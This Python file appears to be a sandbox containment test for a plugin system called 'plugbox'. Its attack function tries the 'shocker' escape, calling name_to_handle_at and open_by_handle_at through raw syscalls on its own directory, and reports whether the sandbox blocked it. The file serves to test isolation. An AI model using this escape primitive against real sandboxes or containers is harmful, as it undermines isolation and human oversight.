"""Open a file by handle (the "shocker" escape: open_by_handle_at reaches
any inode of a mounted file system, bypassing paths): name_to_handle_at on
the plugin's own directory, then open_by_handle_at with it."""

import ctypes
import errno
import os

import plugbox

SYS_name_to_handle_at = 303
SYS_open_by_handle_at = 304
AT_FDCWD = -100
MAX_HANDLE_SZ = 128


@plugbox.export
def attack(ctx):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    here = os.path.dirname(os.path.abspath(__file__))
    handle = ctypes.create_string_buffer(8 + MAX_HANDLE_SZ)
    ctypes.c_uint.from_buffer(handle).value = MAX_HANDLE_SZ   # handle_bytes
    mount_id = ctypes.c_int()
    print(f"[about to call name_to_handle_at({here!r})]", flush=True)
    rc = libc.syscall(ctypes.c_long(SYS_name_to_handle_at), ctypes.c_long(AT_FDCWD), here.encode(),
                      handle, ctypes.byref(mount_id), ctypes.c_long(0))
    if rc < 0:
        return {"contained": True, "how": f"name_to_handle_at -> {errno.errorcode.get(ctypes.get_errno(), '?')}"}
    dirfd = os.open(here, os.O_RDONLY | os.O_DIRECTORY)
    print("[about to call open_by_handle_at]", flush=True)
    fd = libc.syscall(ctypes.c_long(SYS_open_by_handle_at), ctypes.c_long(dirfd), handle,
                      ctypes.c_long(os.O_RDONLY | os.O_DIRECTORY))
    os.close(dirfd)
    if fd < 0:
        return {"contained": True, "how": f"name_to_handle_at worked, open_by_handle_at -> {errno.errorcode.get(ctypes.get_errno(), '?')}"}
    os.close(fd)
    return {"contained": False, "how": "open_by_handle_at opened the directory from its handle"}
